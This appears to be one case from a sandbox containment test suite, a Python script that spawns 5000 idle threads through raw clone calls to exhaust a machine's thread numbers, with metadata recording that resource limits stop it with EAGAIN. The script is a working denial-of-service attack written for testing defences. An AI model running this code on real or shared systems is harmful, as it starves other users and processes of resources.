"""Start 5000 threads that have a page of stack each and only wait, so that the machine has no number left for others.

id: C46
kind: resource
stopped by: resource limits EAGAIN
outcome: EAGAIN
without them: done
besides: own user
machine: x86_64
"""

import ctypes
import mmap
import struct

from attacker import attempt, libc, system_call

THREADS, PAGE = 5000, 4096
STACKS = mmap.mmap(-1, THREADS * PAGE)  # as long as the threads
SHARED = 0x10000 | 0x800 | 0x400 | 0x200 | 0x100  # CLONE_THREAD, _SIGHAND, _FILES, _FS and _VM


def attack(target):
    first = ctypes.addressof(ctypes.c_char.from_buffer(STACKS))
    # Each return from the call, and then from the wait, finds the address of the wait.
    wait = ctypes.cast(libc.pause, ctypes.c_void_p).value
    STACKS.write((bytes(PAGE // 2) + struct.pack("<Q", wait) * 256) * THREADS)

    def start():
        for number in range(THREADS):
            system_call("clone", SHARED, first + number * PAGE + PAGE // 2, 0, 0, 0)

    return attempt(start)
